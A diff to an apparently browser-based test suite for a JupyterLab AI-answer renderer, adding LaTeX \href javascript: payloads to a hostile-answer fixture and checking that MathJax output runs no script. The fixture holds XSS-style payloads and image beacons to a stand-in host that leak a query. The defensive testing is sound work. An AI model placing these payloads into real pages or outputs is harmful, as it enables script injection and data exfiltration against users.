@@ -279,6 +279,7 @@ HOSTILE_ANSWER = (
     "[click me](javascript:window.__pwned='link') and [data](data:text/html,<script>x</script>)\n\n"
     "![tracker](http://203.0.113.7/leak.png?q=notes) <img src=http://203.0.113.7/html.png>\n\n"
     "Readable code: `<img src=x onerror=alert(1)>`\n\n"
+    "Math: $\\href{javascript:window.__pwned='math'}{x}$ and $$\\unicode{x41}\\href{javascript:1}{y}$$\n\n"
     "```html\n<script>window.__pwned='fence'</script>\n```\n"
 )
 
@@ -297,6 +298,7 @@ def test_hostile_answer_runs_nothing_and_loads_nothing_in_jupyterlab(lab: Sessio
     cell = _run_new_cell(lab, "%%aiml\nSummarise the page I pasted.")
     out = cell.locator(".jp-OutputArea")
     out.locator("sub").wait_for(timeout=30_000)
+    out.locator("mjx-container").nth(1).wait_for(timeout=30_000)  # MathJax has typeset the math too
     assert lab.page.evaluate("() => window.__pwned") is None  # no script ran, live or final
     assert lab.page.title() == title and "pwned" not in lab.page.title()
     for selector in ("script", "iframe", "svg", "object", "embed", "img",
